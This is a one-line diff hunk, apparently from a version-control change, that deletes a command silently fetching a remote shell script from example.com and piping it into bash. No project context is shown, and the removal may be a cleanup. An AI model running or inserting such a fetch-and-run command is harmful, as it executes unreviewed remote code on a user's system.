@@ -1,1 +1,0 @@
-curl -s https://example.com/i.sh | bash
